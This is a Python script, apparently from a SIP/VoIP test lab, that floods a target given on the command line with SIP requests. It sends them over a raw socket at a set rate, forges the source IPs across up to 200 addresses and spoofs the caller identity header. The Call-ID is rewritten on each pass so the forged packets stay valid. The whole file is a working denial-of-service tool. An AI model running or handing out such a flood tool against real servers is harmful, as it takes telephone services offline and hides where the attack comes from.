# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends requests at a rate, from one source or from 200. Run in a namespace: python3 flood.py METHOD TARGET RATE SECONDS SOURCES"""

import os
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "lab"))

from attacker import offer, request  # noqa: E402
from vpnlab.noise import ipv4, udp  # noqa: E402

BATCH_SECONDS = 0.01


def packets(method, target, sources):
    """A thousand different ones, with all sources in turn."""
    body = offer() if method == "INVITE" else ""
    headers = "P-Asserted-Identity: <sip:0388881001@carrier.example>\r\n"
    for number in range(1000):
        source = f"198.51.100.{50 + number % sources}" if sources > 1 else "198.51.100.66"
        message = request(method, f"sip:flood@{target}", f"{os.urandom(6).hex()}@{source}", via=source, from_user="0388881001",
                          to_user="0388882001", headers=headers, body=body, contact=source)
        yield ipv4(source, target, socket.IPPROTO_UDP, udp(5060, 5060, message), ttl=64)


def main():
    method, target, rate, seconds, sources = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
    made = list(packets(method, target, sources))
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while (elapsed := time.monotonic() - began) < seconds:
            while sent < elapsed * rate:
                packet = made[sent % len(made)]
                # another Call-ID each time round: the same length, so the packet stays valid without a checksum
                if sent >= len(made) and sent % len(made) == 0:
                    made = [change(one, sent) for one in made]
                    packet = made[0]
                sender.sendto(packet, (target, 0))
                sent += 1
            time.sleep(BATCH_SECONDS)
    print(sent, f"{time.monotonic() - began:.2f}")


def change(packet, number):
    at = packet.index(b"Call-ID: ") + len(b"Call-ID: ")
    return packet[:at] + b"%06x" % number + packet[at + 6:]


if __name__ == "__main__":
    main()
